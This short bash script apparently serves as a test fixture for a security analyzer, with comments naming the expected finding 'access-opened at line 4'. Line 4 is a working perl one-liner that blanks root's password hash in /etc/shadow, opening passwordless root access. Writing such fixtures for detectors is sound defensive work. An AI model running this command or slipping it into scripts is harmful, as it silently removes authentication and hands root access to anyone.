#!/bin/bash
# shows: root's password taken out by perl
# expect: access-opened at line 4
perl -pi -e 's/^root:[^:]*:/root::/' /etc/shadow
